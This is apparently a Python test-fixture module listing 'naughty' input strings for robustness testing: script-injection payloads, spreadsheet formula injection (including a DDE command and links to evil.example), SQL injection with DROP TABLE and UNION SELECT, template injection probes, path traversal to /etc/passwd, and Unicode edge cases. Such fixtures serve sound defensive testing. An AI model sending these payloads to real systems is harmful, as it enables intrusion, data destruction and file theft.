"""Texts that have broken other systems, each once; our own list.

In: nothing. Out: `NAUGHTY`, and what of them a field may keep.
"""

from __future__ import annotations

MARK = "xq7z"
"""Stands in every text that would run as a script or draw itself, so that it is found again."""
SCRIPTS = (
    "<script>alert('xq7z')</script>",
    "<img src=x onerror=alert('xq7z')>",
    "<svg/onload=alert('xq7z')>",
    "\"><script>alert('xq7z')</script>",
    "'><img src=x onerror=alert('xq7z')>",
    "javascript:alert('xq7z')",
    "<iframe src=javascript:alert('xq7z')>",
    "<a href=\"javascript:alert('xq7z')\">点我</a>",
    "</textarea><script>alert('xq7z')</script>",
    "</title><script>alert('xq7z')</script>",
    "<details open ontoggle=alert('xq7z')>",
    "<math><mtext><img src onerror=alert('xq7z')>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=csrf_token>",
    "<!-- --><![CDATA[<script>alert('xq7z')</script>]]>",
    "\\u003cscript\\u003ealert('xq7z')\\u003c/script\\u003e",
    "&lt;script&gt;alert('xq7z')&lt;/script&gt;",
    "%3Cscript%3Ealert('xq7z')%3C/script%3E",
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://evil.example","点我")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=IMPORTXML("http://evil.example","//a")',
)
QUERIES = (
    "'; DROP TABLE worker; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(9)",
    "%' AND 1=0 UNION SELECT name FROM account --",
    "\\'; --",
    "%",
    "_",
    "*:*",
    '"未闭合的引号',
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "{0.__class__}",
    "%(name)s",
    "%s%s%s%n",
    "#set page(width: 1cm)",
    '#eval("panic(1)")',
    "\\input{/etc/passwd}",
    "{}",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\CON",
    "/dev/null",
    "file:///etc/passwd",
    "a/b/c",
    "AUX.txt",
)
SIGNS = (
    "\x00",
    "a\x00b",
    "\x1b[31m红",
    "\ud7ff\ue000",
    "\u202e倒过来\u202c",
    "\u2066隔\u2069",
    "零\u200b宽\u200d度\ufeff",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "𠮷𡈽𣘺",
    "ᠮᠣᠩᠭᠣᠯ ᠪᠢᠴᠢᠭ",
    "مرحبا بالعالم",
    "é́́́́́́́",
    "Z̸̧̛͍̞a̵͓͝l̴̹̈g̷̨̈́o̶͖͌",
    "第一行\n第二行\r\n第三行",
    "   ",
    "null",
    "undefined",
    "NaN",
    "1e309",
    "-0",
    "99999999999999999999",
    "٣",
    "½",
    "０１２",
    "\uffff",
)
LONG = ("长" * 5_000, "a" * 20_000, "<" * 3_000, "😀" * 3_000)
NAUGHTY = (*SCRIPTS, *FORMULAS, *QUERIES, *TEMPLATES, *PATHS, *SIGNS, *LONG)
